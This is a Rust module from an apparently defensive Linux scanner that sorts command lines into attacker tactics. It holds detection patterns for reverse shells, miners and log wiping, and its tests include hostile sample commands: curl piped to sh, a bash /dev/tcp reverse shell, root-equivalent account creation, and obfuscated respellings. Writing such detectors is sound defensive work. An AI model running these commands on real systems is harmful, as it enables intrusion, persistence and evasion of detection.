//! Recognises attacker tradecraft in a command line or script line. Shared by every check that
//! reads commands (cron, systemd, rc scripts, profiles, histories, udev, autostart, processes),
//! so a pattern added here is found everywhere.

use firewarden_model::Severity;
use firewarden_source::spelling::{normalize_command, normalize_path};

/// What a command does that an attacker would.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Tactic {
    /// Downloads code and runs it.
    DownloadExec,
    /// Opens a reverse or bind shell.
    ReverseShell,
    /// Decodes an encoded payload and runs it.
    EncodedExec,
    /// Fetches from a raw IP address or a paste/file-sharing host.
    Download,
    /// Runs or prepares a program in a world-writable temp dir.
    TempExec,
    /// Cryptomining.
    Miner,
    /// Adds an SSH key.
    SshKey,
    /// Creates or changes accounts.
    Account,
    /// Installs persistence (crontab, systemd, rc).
    Persistence,
    /// Destroys history or logs.
    AntiForensics,
    /// Dumps a database or archives a web root.
    DataDump,
    /// Weakens defences (firewall flush, SELinux off, security agent stopped).
    DefenseEvasion,
    /// Copies data off the host.
    Exfiltration,
}

/// One recognised pattern.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Indicator {
    /// Category.
    pub tactic: Tactic,
    /// How serious it is on its own.
    pub severity: Severity,
    /// Plain-language reason.
    pub reason: &'static str,
}

const SHELLS: [&str; 8] = [
    "sh", "bash", "dash", "zsh", "ksh", "ash", "busybox", "python",
];
const TEMP_DIRS: [&str; 5] = ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/", "/tmp ."];

fn has_word(text: &str, word: &str) -> bool {
    text.split(|c: char| {
        c.is_whitespace()
            || matches!(
                c,
                ';' | '|' | '&' | '(' | ')' | '`' | '$' | '\'' | '"' | '='
            )
    })
    .any(|w| w == word || w.rsplit('/').next() == Some(word))
}

fn pipes_to_shell(text: &str) -> bool {
    text.split('|').skip(1).any(|seg| {
        let first = seg.split_whitespace().next().unwrap_or("");
        let first = if first == "sudo" {
            seg.split_whitespace().nth(1).unwrap_or("")
        } else {
            first
        };
        let base = first.rsplit('/').next().unwrap_or("");
        SHELLS
            .iter()
            .any(|s| base == *s || base.starts_with("python") || base == "perl")
    })
}

fn has_raw_ip_url(text: &str) -> bool {
    text.match_indices("://").any(|(i, _)| {
        let host = text[i + 3..]
            .split(['/', ':', ' ', '"', '\''])
            .next()
            .unwrap_or("");
        host.split('.').count() == 4
            && host
                .split('.')
                .all(|o| !o.is_empty() && o.len() <= 3 && o.bytes().all(|b| b.is_ascii_digit()))
    })
}

/// Everything suspicious about one command, most severe first. The command is judged as
/// written and in one normal spelling ([`normalize_command`]): `//tmp/x`, `/usr/../tmp/x`,
/// `c''url` and `curl${IFS}…` are judged as what they run, and nothing seen in the text as
/// written is lost to the normalising (quotes that separated words, for one).
pub fn classify(command: &str) -> Vec<Indicator> {
    let normal = normalize_command(command);
    let mut out = classify_spelling(&command.to_ascii_lowercase());
    if normal != command {
        for i in classify_spelling(&normal.to_ascii_lowercase()) {
            if !out
                .iter()
                .any(|o| o.tactic == i.tactic && o.severity >= i.severity)
            {
                out.retain(|o| o.tactic != i.tactic);
                out.push(i);
            }
        }
        out.sort_by_key(|i| std::cmp::Reverse(i.severity));
    }
    out
}

/// The indicators of one spelling of a command (already lower-cased).
fn classify_spelling(t: &str) -> Vec<Indicator> {
    let mut out = Vec::new();
    let mut add = |tactic, severity, reason| {
        out.push(Indicator {
            tactic,
            severity,
            reason,
        })
    };
    let downloads = has_word(t, "curl")
        || has_word(t, "wget")
        || has_word(t, "fetch")
        || t.contains("lwp-download")
        || has_word(t, "tftp");
    use Severity::*;
    use Tactic::*;
    if downloads
        && (pipes_to_shell(t)
            || t.contains("|sh")
            || t.contains("| sh")
            || t.contains("$(curl")
            || t.contains("$(wget")
            || t.contains("`curl")
            || t.contains("`wget"))
    {
        add(
            DownloadExec,
            Critical,
            "downloads a script and pipes it straight into a shell",
        );
    } else if downloads
        && (t.contains("&& sh ")
            || t.contains("; sh ")
            || t.contains("&& bash ")
            || t.contains("; bash ")
            || t.contains("&&./")
            || t.contains("&& ./")
            || t.contains("; ./"))
    {
        add(
            DownloadExec,
            Critical,
            "downloads a file and then executes it",
        );
    } else if downloads
        && (has_raw_ip_url(t)
            || t.contains("pastebin")
            || t.contains("transfer.sh")
            || t.contains("raw.githubusercontent"))
    {
        add(
            Download,
            High,
            "downloads from a raw IP address or a paste/file-sharing site",
        );
    }
    if t.contains("/dev/tcp/") || t.contains("/dev/udp/") {
        add(
            ReverseShell,
            Critical,
            "opens a network connection through bash's /dev/tcp (reverse shell)",
        );
    }
    if (has_word(t, "nc") || has_word(t, "ncat") || has_word(t, "netcat") || has_word(t, "busybox"))
        && (t.contains(" -e ") || t.contains(" -c ") || t.contains("mkfifo") || t.contains("mknod"))
    {
        add(
            ReverseShell,
            Critical,
            "netcat with command execution (reverse or bind shell)",
        );
    }
    if has_word(t, "socat") && (t.contains("exec:") || t.contains("system:")) {
        add(
            ReverseShell,
            Critical,
            "socat connecting a shell to the network",
        );
    }
    if (t.contains("python") || t.contains("perl") || t.contains("ruby") || t.contains("php"))
        && t.contains("socket")
        && (t.contains("subprocess")
            || t.contains("exec")
            || t.contains("pty")
            || t.contains("dup2")
            || t.contains("system"))
    {
        add(
            ReverseShell,
            Critical,
            "scripting-language one-liner that ties a shell to a socket",
        );
    }
    if (t.contains("base64 -d")
        || t.contains("base64 --decode")
        || t.contains("base64 -di")
        || t.contains("openssl enc -d")
        || t.contains("xxd -r"))
        && (pipes_to_shell(t) || t.contains("eval"))
    {
        add(
            EncodedExec,
            Critical,
            "decodes an encoded payload and runs it",
        );
    }
    if t.contains("stratum+tcp")
        || t.contains("stratum+ssl")
        || t.contains("stratum2+")
        || has_word(t, "xmrig")
        || t.contains("--donate-level")
        || t.contains("kdevtmpfsi")
        || t.contains("kinsing")
        || t.contains("minerd")
        || t.contains("cpuminer")
        || t.contains("nanopool.org")
        || t.contains("supportxmr")
        || t.contains("moneroocean")
        || t.contains("c3pool")
        || t.contains("hashvault.pro")
        || t.contains("f2pool")
    {
        add(Miner, Critical, "cryptominer name, pool or options");
    }
    if TEMP_DIRS.iter().any(|d| t.contains(d)) {
        let exec = t.contains("chmod +x")
            || t.contains("chmod 777")
            || t.contains("chmod 755")
            || t.contains("chmod u+x")
            || t.contains("nohup")
            || t.split_whitespace().any(|w| {
                TEMP_DIRS
                    .iter()
                    .any(|d| w.starts_with(d.trim_end_matches(' ')))
                    && !w.ends_with('/')
            }) && (t.trim_start().starts_with("/tmp")
                || t.trim_start().starts_with("/var/tmp")
                || t.trim_start().starts_with("/dev/shm")
                || t.contains("exec")
                || t.contains("nohup")
                || t.contains("&& /")
                || t.contains("; /"));
        if exec {
            add(
                TempExec,
                High,
                "makes executable or runs a program from a world-writable temp dir",
            );
        }
    }
    if t.contains("authorized_keys")
        && (t.contains(">>")
            || t.contains("> ")
            || t.contains("tee")
            || t.contains("echo")
            || t.contains("cp ")
            || t.contains("cat "))
    {
        add(SshKey, High, "writes an SSH key into authorized_keys");
    }
    if has_word(t, "useradd")
        || has_word(t, "adduser")
        || (has_word(t, "usermod")
            && (t.contains("-u 0")
                || t.contains(" -o")
                || t.contains("sudo")
                || t.contains("wheel")))
        || t.contains("chpasswd")
        || (has_word(t, "passwd") && !t.trim_start().starts_with("passwd\n"))
            && (t.contains("--stdin") || t.contains("echo"))
        || t.contains("/etc/passwd") && t.contains(">>")
    {
        add(Account, High, "creates an account or sets a password");
    }
    if (has_word(t, "crontab") && !t.contains("crontab -l"))
        || (t.contains("/etc/cron") && (t.contains(">") || t.contains("cp ") || t.contains("echo")))
        || (t.contains("systemctl enable") || t.contains(".service") && t.contains(">"))
        || (t.contains("/etc/rc.local") && t.contains(">"))
        || t.contains("/etc/ld.so.preload")
    {
        add(
            Persistence,
            High,
            "installs persistence (cron, systemd, rc.local or ld.so.preload)",
        );
    }
    if t.contains("history -c")
        || t.contains("unset histfile")
        || t.contains("histsize=0")
        || t.contains("histfilesize=0")
        || t.contains("histfile=/dev/null")
        || t.contains("set +o history")
        || (has_word(t, "shred") && (t.contains("log") || t.contains("history")))
        || (t.contains("rm ")
            && (t.contains("/var/log")
                || t.contains("_history")
                || t.contains("wtmp")
                || t.contains("lastlog")))
        || t.contains("> /var/log/")
        || t.contains(">/var/log/")
        || t.contains("ln -sf /dev/null") && t.contains("history")
        || t.contains("journalctl --vacuum")
    {
        add(
            AntiForensics,
            High,
            "erases or disables shell history or logs",
        );
    }
    if has_word(t, "mysqldump")
        || has_word(t, "pg_dump")
        || has_word(t, "pg_dumpall")
        || t.contains("into outfile")
        || has_word(t, "mongodump")
        || ((has_word(t, "tar") || has_word(t, "zip") || has_word(t, "7z") || has_word(t, "rar"))
            && (t.contains("/var/www") || t.contains("/srv/www") || t.contains("/home/wwwroot")))
    {
        add(
            DataDump,
            Medium,
            "dumps a database or archives a web root (data theft, \"dragging\")",
        );
    }
    if t.contains("iptables -f")
        || t.contains("ufw disable")
        || t.contains("setenforce 0")
        || t.contains("systemctl stop firewalld")
        || t.contains("aliyun") && (t.contains("uninstall") || t.contains("stop"))
        || t.contains("aegis") && (t.contains("kill") || t.contains("stop") || t.contains("rm "))
        || t.contains("chattr -i")
        || t.contains("chattr +i")
        || t.contains("echo 0 > /proc/sys/kernel/nmi_watchdog")
    {
        add(
            DefenseEvasion,
            Medium,
            "weakens defences (firewall, SELinux, security agent, immutable bits)",
        );
    }
    if (has_word(t, "scp") || has_word(t, "rsync")) && t.contains('@') && t.contains(':') {
        add(Exfiltration, Low, "copies files to or from another host");
    }
    out.sort_by_key(|i| std::cmp::Reverse(i.severity));
    out
}

/// The most severe indicator of a command, if any.
pub fn worst(command: &str) -> Option<Indicator> {
    classify(command).into_iter().next()
}

/// The program a line would run from a temp or hidden directory, as an indicator: what
/// [`classify`] leaves to this, since a bare path is not tradecraft until it sits there.
pub fn temp_program(text: &str) -> Option<Indicator> {
    let normal = normalize_command(text);
    let words: Vec<&str> = normal
        .split(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '|' | '(' | '`' | '='))
        .map(|w| w.trim_matches(|c| c == '"' || c == '\''))
        .filter(|w| !w.is_empty())
        .collect();
    let absolute = words.iter().any(|w| {
        w.starts_with('/')
            && is_suspicious_location(w)
            && !w.starts_with("/dev/null")
            && !w.starts_with("/dev/tcp")
    });
    // `cd /tmp; ./x`: a relative program run after changing into a temp or hidden dir.
    let relative = words.windows(3).any(|w| {
        w[0] == "cd"
            && w[1].starts_with('/')
            && is_suspicious_location(&format!("{}/", w[1].trim_end_matches('/')))
            && w[2].starts_with("./")
    });
    (absolute || relative).then_some(Indicator {
        tactic: Tactic::TempExec,
        severity: Severity::High,
        reason: "runs a program from a temp or hidden directory",
    })
}

/// True when a path lies in a world-writable temp dir or a hidden directory, where no
/// legitimate service keeps its programs. The path is normalised first, so `//tmp/x` and
/// `/usr/../dev/shm/x` count.
pub fn is_suspicious_location(path: &str) -> bool {
    let p = normalize_path(path.trim_end_matches(" (deleted)"));
    let p = p.as_ref();
    [
        "/tmp/",
        "/var/tmp/",
        "/dev/shm/",
        "/run/shm/",
        "/dev/",
        "/run/user/",
    ]
    .iter()
    .any(|d| p.starts_with(d) && !p.starts_with("/dev/null"))
        || p.split('/')
            .any(|c| c.starts_with('.') && c.len() > 1 && c != "..")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tactics(c: &str) -> Vec<Tactic> {
        classify(c).into_iter().map(|i| i.tactic).collect()
    }

    #[test]
    fn recognises_common_tradecraft() {
        assert!(
            tactics("*/5 * * * * curl -fsSL http://1.2.3.4/x.sh | sh")
                .contains(&Tactic::DownloadExec)
        );
        assert!(
            tactics("wget -q http://evil.example/a -O /tmp/a; chmod +x /tmp/a; /tmp/a")
                .contains(&Tactic::TempExec)
        );
        assert!(
            tactics("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1").contains(&Tactic::ReverseShell)
        );
        assert!(tactics("echo ZWNobyBoaQ== | base64 -d | bash").contains(&Tactic::EncodedExec));
        assert!(tactics("./xmrig -o stratum+tcp://pool:3333 -u wallet").contains(&Tactic::Miner));
        assert!(tactics("unset HISTFILE").contains(&Tactic::AntiForensics));
        assert!(
            tactics("mysqldump -uroot -p shop > /var/www/html/s.sql").contains(&Tactic::DataDump)
        );
        assert!(
            tactics("echo ssh-rsa AAAA >> /root/.ssh/authorized_keys").contains(&Tactic::SshKey)
        );
        assert!(tactics("useradd -o -u 0 -g 0 toor").contains(&Tactic::Account));
    }

    #[test]
    fn ordinary_commands_are_quiet() {
        for c in [
            "ls -la",
            "cd /var/www/html",
            "apt-get update && apt-get upgrade",
            "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
            "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
            "vim /etc/nginx/nginx.conf",
            "curl -I https://example.org",
            "git pull",
            "systemctl status nginx",
            "/usr/lib/php/sessionclean",
            "find /tmp -type f -mtime +7 -delete",
        ] {
            assert!(classify(c).is_empty(), "{c}: {:?}", classify(c));
        }
    }

    #[test]
    fn locations() {
        assert!(is_suspicious_location("/tmp/.x/kworker"));
        assert!(is_suspicious_location("/dev/shm/a (deleted)"));
        assert!(is_suspicious_location("/root/.cache/.s/x"));
        assert!(!is_suspicious_location("/usr/sbin/sshd"));
        assert!(is_suspicious_location("//tmp/x"));
        assert!(is_suspicious_location("/usr/../dev/shm/x"));
        assert!(!is_suspicious_location("/tmp/../usr/sbin/sshd"));
    }

    #[test]
    fn a_program_run_after_cd_into_a_temp_dir_is_seen() {
        for c in [
            "* * * * * root cd /tmp; ./x",
            "@reboot cd /dev/shm/.k && ./kworker -d",
            "cd //var/tmp/ ; ./a",
            "cd ${TMPDIR}; ./a",
        ] {
            assert!(temp_program(c).is_some(), "{c}");
        }
        assert!(temp_program("cd /srv/app && ./run.sh").is_none());
        assert!(temp_program("cd /tmp && ls").is_none());
    }

    #[test]
    fn respelled_commands_are_judged_as_what_they_run() {
        for c in [
            "c''url -s http://203.0.113.9/x | s\\h",
            "curl${IFS}-s${IFS}http://203.0.113.9/x|sh",
            "w\"g\"et -qO- http://evil.example/a | bash",
        ] {
            assert!(tactics(c).contains(&Tactic::DownloadExec), "{c}");
        }
        for c in [
            "wget -q http://e.example/a -O //tmp/a; chmod +x //tmp/a; //tmp/a",
            "/usr/../tmp/a & nohup /./var/tmp/b",
        ] {
            assert!(tactics(c).contains(&Tactic::TempExec), "{c}");
        }
    }
}
